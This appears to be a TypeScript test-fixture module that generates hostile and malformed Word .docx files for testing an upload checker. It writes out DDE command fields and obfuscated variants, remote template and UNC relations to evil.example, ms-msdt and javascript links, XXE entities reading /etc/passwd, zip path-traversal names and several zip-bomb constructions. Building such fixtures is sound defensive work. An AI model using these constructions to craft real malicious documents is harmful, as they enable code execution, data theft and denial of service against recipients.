import { crc32, deflateRawSync } from 'node:zlib'
import type { FileFault } from '#server/platform/uploads/file-checks/refused.ts'
import { bad, type BadFile, firstHalf, linesOf, program } from './bad-file.ts'
import {
  buildDocx,
  buildZip,
  contentTypes,
  documentXml,
  docxParts,
  field,
  relation,
  relations,
  wholeDocx,
  wordXml,
  type ZipPart,
} from './zip.ts'

function docx(fault: FileFault, name: string, bytes: () => Buffer): BadFile {
  return bad('docx', fault, name, bytes)
}

function withXml(content: string | Buffer): Buffer {
  return buildDocx({ 'word/document.xml': content })
}
function withWords(inner: string): Buffer {
  return withXml(wordXml(inner))
}
function withRelations(...inner: string[]): Buffer {
  return buildDocx({ 'word/_rels/document.xml.rels': relations(...inner) })
}

/** Parts that are no XML, picture or font of a kind that a document has. */
const parts: [part: string, content?: string | Buffer][] = [
  ...['vbaProject.bin', 'theme.bin', 'embeddings/oleObject1.bin', 'embeddings/sheet1.xlsx', 'gadget'].map(
    (part): [string] => [`word/${part}`],
  ),
  ...['activeX/activeX1.bin', 'media/run.js', 'afchunk1.html', 'afchunk1.rtf'].map((part): [string] => [
    `word/${part}`,
  ]),
  ['word/media/image1.png', program],
  ['word/media/image1.png', buildZip([{ name: 'a', content: 'a' }])],
]

/** Kinds of relations, and what they lead to outside the document. */
const external = linesOf(String.raw`
  attachedTemplate http://evil.example/t.dotm
  attachedTemplate file://evil.example/t.dotm
  attachedTemplate \\evil.example\t.dotm
  attachedTemplate file:///%5C%5Cevil.example%5Ct.dotm
  attachedTemplate file:////evil.example/t.dotm
  attached&#84;emplate http://evil.example/t.dotm
  image http://evil.example/a.png
  frame http://evil.example/
  oleObject http://evil.example/a
  subDocument http://evil.example/a.docx
  settings http://evil.example/settings.xml
  mailMergeSource file:///C:/a.mdb
  hyperlink javascript:alert(1)
  hyperlink file:///C:/Windows/a.exe
  hyperlink \\evil.example\a
  hyperlink ms-msdt:/id
  hyperlink data:text/html,x
`)
const internal = 'aFChunk package control keyMapCustomizations video gadget'

/** Elements that hold or fetch another file, a control, a query or the name of a macro. */
const elements = `object control altChunk subDoc mailMerge frameset sourceFileName saveThroughXslt entryMacro exitMacro
  movie embeddedWAVAudioFile audioFile videoFile wavAudioFile quickTimeFile externalData oleObj script foreignObject
  scriptAnchor applet iframe OLEObject`
const homes = `office/2006/activeX office/2009/07/customui office/webextensions/webextension/2010/11
  office/word/2012/wordprocessingDrawing office/drawing/2017/model3d`
const drawings = [
  '<v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="file:///C:/a.exe"/>',
  '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a"/>',
]

const instructions = linesOf(String.raw`
  DDE cmd "/c calc"
  ddeauto cmd
  INCLUDEPICTURE "http://evil.example/a.png"
  INCLUDETEXT "a.docx"
  LINK Excel.Sheet.12 "a.xlsx"
  EMBED Package
  MACROBUTTON AutoOpen x
  IMPORT "a"
  RD "a.docx"
  DATABASE \d "a.mdb"
  GADGET
  HYPERLINK "javascript:alert(1)"
  HYPERLINK "\\\\evil.example\\a"
  HYPERLINK \o "tip" "file:///C:/a.exe"
  "DDE" cmd
  D<!-- -->DE cmd
  <![CDATA[DDE cmd]]>
  &#68;DE cmd
  DD</w:instrText></w:r><w:r><w:instrText>E cmd
  </w:instrText><w:t>DDE cmd</w:t><w:instrText>
`)
const other = 'xmlns:x="http://evil.example/x"'

/** Fields in ways that only some readers see. */
const fields: [FileFault, inner: string][] = [
  ...[...instructions, ''].map((words): [FileFault, string] => ['active', field(words)]),
  ['active', field('DDE cmd').replaceAll('instrText', 'delInstrText')],
  ['active', '<w:fldSimple w:instr="DDE cmd"/>'],
  ['active', `<w:fldSimple ${other} w:instr="DDE cmd" x:instr="PAGE"/>`],
  ['active', '<w:fldSimple instr="PAGE"/>'],
  [
    'active',
    field(`PAGE ${field('DDE cmd').replace('<w:r>', '</w:instrText></w:r><w:r>')}<w:r><w:instrText>`),
  ],
  ['active', field(`</w:instrText></w:r>${field('QUOTE', 'DDE')}<w:r><w:instrText> cmd`)],
  ['active', field(`</w:instrText><x:fldChar ${other} x:fldCharType="separate"/><w:instrText> DDE`)],
  [
    'damaged',
    field(
      `PAGE </w:instrText></w:r><x:a ${other}><w:r><w:fldChar w:fldCharType="separate"/></w:r></x:a><w:r><w:instrText>`,
    ),
  ],
  ['damaged', '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'],
  ['damaged', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'],
]

function declared(words: string): string {
  return `<?xml version="1.0"${words}?>${wordXml('')}`
}

/** Parts that are no XML, or more than that. */
const xml: [FileFault, name: string, content: string | Buffer][] = [
  ['active', 'a kind', `<!DOCTYPE d>${wordXml('')}`],
  ['active', 'entities', `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wordXml('&a;')}`],
  ['active', 'entities that unfold', `<!DOCTYPE d [<!ENTITY a "xx"><!ENTITY b "&a;&a;">]>${wordXml('&b;')}`],
  ['active', 'a kind in UTF-16', Buffer.from(`\ufeff<!DOCTYPE d>${wordXml('')}`, 'utf16le')],
  ['active', 'a style', `<?xml-stylesheet href="http://evil.example/a.xsl"?>${wordXml('')}`],
  ['damaged', 'an entity nobody knows', wordXml('<w:r><w:t>&nbsp;</w:t></w:r>')],
  ['damaged', 'UTF-7', declared(' encoding="UTF-7"')],
  ['damaged', 'windows-1252', declared(' encoding="windows-1252"')],
  ['damaged', 'UTF-16 called UTF-8', Buffer.from(`\ufeff${declared(' encoding="UTF-8"')}`, 'utf16le')],
  ['damaged', 'letters that are none', Buffer.from([0x3c, 0xff, 0xfe, 0x3e])],
  ['damaged', 'what is not closed', wordXml('<w:p>')],
  ['damaged', 'a prefix nobody declares', wordXml('<q:p/>')],
  ['damaged', 'elements 1,000 deep', wordXml('<w:p>'.repeat(1000) + '</w:p>'.repeat(1000))],
]

const types = '[Content_Types].xml'
/** Parts that are said to be of another kind than they are. */
const kinds: BadFile[] = [
  docx('active', 'docm', () =>
    buildDocx({ [types]: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ),
  docx('wrong kind', 'xlsx', () => {
    const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
    return buildDocx({ [types]: contentTypes(sheet) })
  }),
  docx('damaged', 'a kind said twice', () => {
    const twice = '<Override PartName="/WORD/document.xml" ContentType="a/b"/></Types>'
    return buildDocx({ [types]: contentTypes().replace('</Types>', twice) })
  }),
  docx('damaged', 'macros that are said to be styles', () =>
    buildDocx({ 'word/styles.xml': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  ),
  docx('active', 'relations that are said to be something else', () =>
    buildDocx({
      [types]: contentTypes().replace('openxmlformats-package.relationships+xml', 'gadget+xml'),
    }),
  ),
  docx('active', 'a control among the data of others', () =>
    wholeDocx({
      'customXml/item1.xml': '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    }),
  ),
  docx('active', 'words of Word’s own that are said to be data', () =>
    wholeDocx({ 'customXml/item1.xml': wordXml('<w:object/>') }),
  ),
  docx('active', 'the state of a control called a font', () =>
    wholeDocx({ 'word/fonts/font1.odttf': Buffer.alloc(100, 7) }),
  ),
  docx('active', 'styles that are said to be data', () =>
    buildDocx({ 'word/styles.xml': '<styles><object/></styles>' }),
  ),
  docx('wrong kind', 'two documents', () => {
    const second = relation('officeDocument', 'word/styles.xml').replace('Id="r', 'Id="q')
    return buildDocx({ '_rels/.rels': relations(relation('officeDocument', 'word/document.xml'), second) })
  }),
  docx('active', 'relations in UTF-16 to a template from elsewhere', () => {
    const template = relations(relation('attachedTemplate', 'http://evil.example', 'External'))
    const text = `\ufeff${template.replace('UTF-8', 'UTF-16')}`
    return buildDocx({ 'word/_rels/document.xml.rels': Buffer.from(text, 'utf16le') })
  }),
  docx('damaged', 'a relation to what is not there', () => withRelations(relation('header', 'header9.xml'))),
  docx('damaged', 'a relation out of the archive', () =>
    withRelations(relation('header', '../../../etc/passwd')),
  ),
  docx('damaged', 'relations of one name', () =>
    withRelations(relation('styles', 'styles.xml'), relation('styles', 'styles.xml')),
  ),
]

function extra(id: number, content: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(id)
  head.writeUInt16LE(content.length, 2)
  return Buffer.concat([head, content])
}

/** What one entry of an archive can say of itself so that two readers would open it in two ways. */
const twofold: Partial<ZipPart>[] = [
  ...[{ hidden: program }, { gap: program }, { sum: 7 }, { comment: 'x' }],
  ...[{ sum: 7 }, { size: 7 }, { method: 0 }, { flags: 0 }].map((header) => ({ header })),
  { extra: extra(0x7075, Buffer.from('\x01....word/b.xml')) },
  { extra: extra(0x6375, Buffer.from('\x01....x')) },
  { extra: extra(0x0001, Buffer.alloc(16)) },
  { header: { extra: extra(0x0001, Buffer.alloc(16)) } },
  { extra: extra(0x4141, Buffer.from('x')) },
  { header: { extra: Buffer.from('0a00ff00', 'hex') } },
  { flags: 0x0808, descriptor: Buffer.alloc(16) },
]
const oddNames = String.raw`../../../etc/cron.d/x /etc/passwd word\..\..\x.xml C:/x.xml word/../../x.xml WORD/document.xml`

const document = { name: 'word/document.xml', content: documentXml() }

/** Archives that are not exactly what their directory says. */
const archives: BadFile[] = [
  ...oddNames
    .split(' ')
    .map((name) => docx('damaged', `an entry called ${name}`, () => buildDocx([{ name, content: 'x' }]))),
  ...twofold.map((part) =>
    docx('damaged', `an entry with ${JSON.stringify(part)}`, () => buildDocx([{ ...document, ...part }])),
  ),
  docx('damaged', 'a gap before its directory', () => buildDocx([], { gap: program })),
  docx('damaged', 'a second directory', () =>
    buildDocx([], { gap: buildZip([{ name: 'a', content: 'a' }]) }),
  ),
  docx('damaged', 'two entries of one name', () => buildZip([...docxParts(), document])),
  docx('damaged', 'a name that differs in its header', () =>
    buildDocx([{ name: 'word/a.xml', content: 'x', headerName: 'word/vbaProject.bin' }]),
  ),
  docx('locked', 'an encrypted entry', () => buildDocx([{ ...document, flags: 0x0801 }])),
  docx('damaged', 'without a document', () =>
    buildZip(docxParts().filter(({ name }) => name !== document.name)),
  ),
  docx('damaged', 'cut in half', () => firstHalf(buildDocx())),
  docx('damaged', 'without its last byte', () => buildDocx().subarray(0, -1)),
  docx('wrong kind', 'bytes in front', () =>
    buildDocx([], { front: Buffer.from('#!/bin/sh\n'), adjusted: true }),
  ),
  docx('damaged', 'another zip in front', () =>
    buildDocx([], { front: buildZip([{ name: 'a.exe', content: program }]), adjusted: true }),
  ),
  docx('damaged', 'bytes behind', () => buildDocx([], { behind: program })),
  docx('damaged', 'a comment that is a page', () => buildDocx([], { comment: '<html><script>' })),
  docx('damaged', 'an unknown way of packing', () =>
    buildDocx([{ name: 'word/a.xml', content: 'x', method: 99 }]),
  ),
  docx('damaged', 'only its first bytes', () => Buffer.from('504b0304', 'hex')),
  docx('wrong kind', 'an empty zip', () => buildZip([])),
]

/** Documents that unfold to more than they should. */
const bombs: BadFile[] = [
  docx('damaged', 'one part of 80 MB', () => buildDocx([zeros('word/a.xml', 80)])),
  docx('damaged', 'sixty parts of 4 MB', () => {
    const part = zeros('', 4)
    return buildDocx(Array.from({ length: 60 }, (_, at) => ({ ...part, name: `word/media/${at}.xml` })))
  }),
  docx('damaged', 'small, ratio 1,000', () => buildDocx([zeros('word/media/a.xml', 8)])),
  docx('damaged', 'a part that claims 10 bytes and unfolds to 60 MB', () =>
    buildDocx([{ ...zeros('word/media/a.xml', 60), claimedSize: 10 }]),
  ),
  docx('damaged', 'a part that claims 4 GB', () =>
    buildDocx([{ name: 'word/a.xml', content: 'x', claimedSize: 0xfffffffe }]),
  ),
  docx('damaged', 'a zip within', () => nested(3)),
  docx('damaged', '500 entries that share their bytes', () => overlapping(500)),
  docx('damaged', 'an entry that is the zip itself', quine),
  docx('damaged', '10,000 entries', () =>
    buildDocx(
      Array.from({ length: 10_000 }, (_, at) => ({ name: `word/${at}.xml`, content: 'x', stored: true })),
    ),
  ),
]

function words(text: string): string[] {
  return text.trim().split(/\s+/)
}

const made: BadFile[] = [
  ...parts.map(([part, content = 'x'], at) =>
    docx('active', `the part ${part}, ${at}`, () => buildDocx({ [part]: content })),
  ),
  ...external.map((line) => {
    const [kind = '', target = ''] = line.split(' ')
    return docx('active', `the relation ${line}`, () => withRelations(relation(kind, target, 'External')))
  }),
  ...words(internal).map((kind) => {
    return docx('active', `the relation ${kind}`, () => withRelations(relation(kind, 'styles.xml')))
  }),
  ...words(elements).map((name) => docx('active', `the element ${name}`, () => withWords(`<w:${name}/>`))),
  ...words(homes).map((home) => {
    const element = `<x:any xmlns:x="http://schemas.microsoft.com/${home}"/>`
    return docx('active', `an element of ${home}`, () => withWords(element))
  }),
  ...drawings.map((drawing) => docx('active', drawing, () => withWords(drawing))),
  ...fields.map(([fault, inner]) => docx(fault, inner, () => withWords(`<w:p>${inner}</w:p>`))),
  ...xml.map(([fault, name, content]) => docx(fault, `XML with ${name}`, () => withXml(content))),
  ...kinds,
  ...archives,
  ...bombs,
]

/** Documents of Word that run something, lead out of themselves, or are no ordinary zip. */
export const badDocx: BadFile[] = made

/** So much of nothing, packed here, so that it is done once for many. */
function zeros(name: string, megabytes: number): ZipPart {
  const content = Buffer.alloc(megabytes * 1024 * 1024)
  const [packed, sum, claimedSize] = [deflateRawSync(content), crc32(content), content.length]
  return { name, content: '', packed, sum, claimedSize }
}

function nested(depth: number): Buffer {
  let inner = buildZip([zeros('0.bin', 10)])
  for (let level = 0; level < depth; level += 1) {
    const copies = Array.from({ length: 5 }, (_, at) => ({ name: `${at}.zip`, content: inner, stored: true }))
    inner = buildZip(copies)
  }
  return buildDocx([{ name: 'word/media/image1.xml', content: inner, stored: true }])
}

function overlapping(count: number): Buffer {
  const own = docxParts()
  const offset = buildZip(own).indexOf('504b0102', 0, 'hex')
  const content = Buffer.alloc(64 * 1024)
  const more = Array.from({ length: count }, (_, at) => {
    return { name: `word/media/${at}.xml`, content, offset, directoryOnly: at > 0 }
  })
  return buildZip([...own, ...more])
}

function quine(): Buffer {
  const own = docxParts()
  const packed = deflateRawSync(buildZip(own))
  const self = { name: 'word/media/self.xml', content: 'x', packed, offset: 0, directoryOnly: true }
  return buildZip([...own, self])
}
